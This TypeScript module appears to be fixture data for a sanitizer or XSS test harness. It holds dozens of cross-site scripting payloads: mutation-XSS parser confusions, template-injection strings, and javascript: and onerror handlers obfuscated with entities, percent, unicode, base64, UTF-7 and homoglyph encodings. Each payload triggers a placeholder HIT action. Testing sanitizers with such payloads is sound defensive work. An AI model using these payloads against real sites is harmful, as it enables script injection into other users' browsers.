/** HTML that is parsed differently the second time (mutation XSS), and obfuscated HTML. */
import type { PayloadTable } from './table.ts';

const each = (text: string, write: (code: number) => string) =>
  [...text].map((character) => write(character.codePointAt(0) ?? 0)).join('');
const decimal = (text: string) => each(text, (code) => `&#${code};`);
const hexadecimal = (text: string) => each(text, (code) => `&#x${code.toString(16)};`);
const padded = (text: string) => each(text, (code) => `&#${String(code).padStart(7, '0')}`);
const percent = (text: string) => each(text, (code) => `%${code.toString(16)}`);
const unicode = (text: string) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`);

export const parsers: PayloadTable = {
  'mutation XSS': [
    '<noscript><p title="</noscript><img src=/none onerror=HIT>"></noscript><img src=/none onerror=HIT>',
    '<listing>&lt;img src=/none onerror=HIT&gt;</listing><img src=/none onerror=HIT>',
    '<xmp><p title="</xmp><img src=/none onerror=HIT>"></xmp>',
    '<noembed><p title="</noembed><img src=/none onerror=HIT>"></noembed>',
    '<noframes><p title="</noframes><img src=/none onerror=HIT>"></noframes>',
    '<textarea><p title="</textarea><img src=/none onerror=HIT>"></textarea>',
    '<title><p title="</title><img src=/none onerror=HIT>"></title>',
    '<style><p title="</style><img src=/none onerror=HIT>"></style>',
    '<iframe><p title="</iframe><img src=/none onerror=HIT>"></iframe>',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=/none onerror=HIT>">',
    '<select><option><script>HIT</script><img src=/none onerror=HIT></option></select><img src=/none onerror=HIT>',
    '<table><tr><td><a href="x"><table><a title="</a></table><img src=/none onerror=HIT>"></a></table><img src=/none onerror=HIT>',
    '<a href="x"><table><a href="y"></table><img src=/none onerror=HIT></a>',
    '<b><p><b><i><u></p><img src=/none onerror=HIT></b>',
    '<!--><img src=/none onerror=HIT>-->',
    '<!---><img src=/none onerror=HIT>-->',
    '<!--x--!><img src=/none onerror=HIT>',
    '<!-- --!> <img src=/none onerror=HIT> -->',
    '<![CDATA[<p title="]]><img src=/none onerror=HIT>">]]><img src=/none onerror=HIT>',
    '<?xml version="1.0"?><?x <p title="?><img src=/none onerror=HIT>">',
    '<!DOCTYPE x [<!ENTITY y "z">]><img src=/none onerror=HIT>',
    '<p title="`onmouseover=HIT">a</p><img alt="``onerror=HIT" src=/none onerror=HIT>',
    '<img alt="</body><script>HIT</script>" title="</head></html>" src=/none onerror=HIT>',
    `<img alt='<script type="application/json" id="page-state">' title='<div id="root"></div></body>' src=/none onerror=HIT>`,
    '<p><math><p></math><style><p title="</style><img src=/none onerror=HIT>"></p>',
    '<plaintext><img src=/none onerror=HIT>',
    '<img src=/none onerror=HIT //',
    '<img src="/none" title="unclosed onerror=HIT><script>HIT</script>',
    '<a<img src=/none onerror=HIT>',
    '<p/x="y"onclick=HIT//>press</p>',
  ],
  template: [
    '<template><img src=/none onerror=HIT></template><img src=/none onerror=HIT>',
    '<template shadowrootmode=open><img src=/none onerror=HIT></template>',
    '<div><template shadowrootmode=open><style>:host{position:fixed;inset:0}</style><slot></slot></template><script>HIT</script></div>',
    '<template><template><script>HIT</script></template></template><svg onload=HIT>',
    '<template><style></template><img src=/none onerror=HIT></style></template>',
    '<table><template></table><img src=/none onerror=HIT></template></table>',
    '<template id=B:0></template><script>HIT</script>',
    '{{constructor.constructor("HIT")()}}<img src=/none onerror=HIT>',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the payload
    '${HIT}<%= HIT %>#{HIT}[[HIT]]<img src=/none onerror=HIT>',
    '<slot name=x><img src=/none onerror=HIT></slot>',
  ],
  entities: [
    ({ hit }) => `<img src=/none onerror="${decimal(hit)}">`,
    ({ hit }) => `<img src=/none onerror="${hexadecimal(hit)}">`,
    ({ hit }) => `<img src=/none onerror="${padded(hit)}">`,
    ({ hit }) => `<a href="${decimal(`javascript:${hit}`)}">go</a>`,
    ({ hit }) => `<a href="${hexadecimal(`javascript:${hit}`)}">go</a>`,
    '<a href="javascript&colon;HIT">go</a>',
    '<a href="java&Tab;script:HIT">go</a>',
    '<a href="java&NewLine;script:HIT">go</a>',
    '<a href="&#1;javascript:HIT">go</a>',
    '<a href="jav&#x0A;ascript&#58;HIT">go</a>',
    '<a href="javascript:hit&lpar;ID&rpar;">go</a>',
    '<a href="javascript:x=&quot;&lt;&quot;;HIT">go</a>',
    '&lt;img src=/none onerror=HIT&gt;<img src=/none onerror=HIT>',
    '&amp;lt;script&amp;gt;HIT&amp;lt;/script&amp;gt;<script>HIT</script><svg onload=HIT>',
  ],
  encodings: [
    ({ hit }) => `<a href="javascript:${percent(hit)}">go</a>`,
    ({ hit }) => `<img src=/none onerror="eval('${unicode(hit)}')">`,
    ({ hit }) => `<img src=/none onerror="eval(atob('${btoa(hit)}'))">`,
    ({ hit }) => `<img src=/none onerror="${unicode('hit')}${hit.slice(3)}">`,
    ({ hit }) => `<iframe src="data:text/html;base64,${btoa(`<script>${hit}</script>`)}"></iframe>`,
    ({ hit }) => `<a href="  \u0001\u0002javascript:${hit}">go</a>`,
    ({ hit }) => `<a href="java\tscr\nipt:${hit}">go</a>`,
    ({ hit }) => `<a href="JaVaScRiPt:${hit}">go</a>`,
    ({ hit }) => `<img src=/none\u000conerror=${hit}>`,
    ({ hit }) =>
      `<img\u0000 src=/none onerror=${hit}><img src=/none onerror\u0000=1 onerror=${hit}>`,
    ({ hit }) => `<\u0000script>${hit}</script><script\u000c>${hit}</script>`,
    ({ hit }) => `\ufeff<script>${hit}</script><img src=/none onerror=${hit}>`,
    ({ hit }) => `+ADw-script+AD4-${hit}+ADw-/script+AD4-<img src=/none onerror=${hit}>`,
    ({ hit }) => `\u00bcscript\u00be${hit}\u00bc/script\u00be<img src=/none onerror=${hit}>`,
    ({ hit }) => `\uff1cscript\uff1e${hit}\uff1c/script\uff1e<img src=/none onerror=${hit}>`,
    ({ hit }) => `\ud800<img src=/none onerror=${hit}>\udc00`,
    ({ hit }) => `<img src=/none onerror=${hit}>\u202egnp.exe\u2066\u2067`,
    ({ hit }) => `\u2028<script>${hit}</script>\u2029<img src=/none onerror=${hit}>`,
    ({ hit }) =>
      `<ımg src=/none onerror=${hit}><ſcript>${hit}</ſcript><img ſrc=x src=/none onerror=${hit}>`,
  ],
};
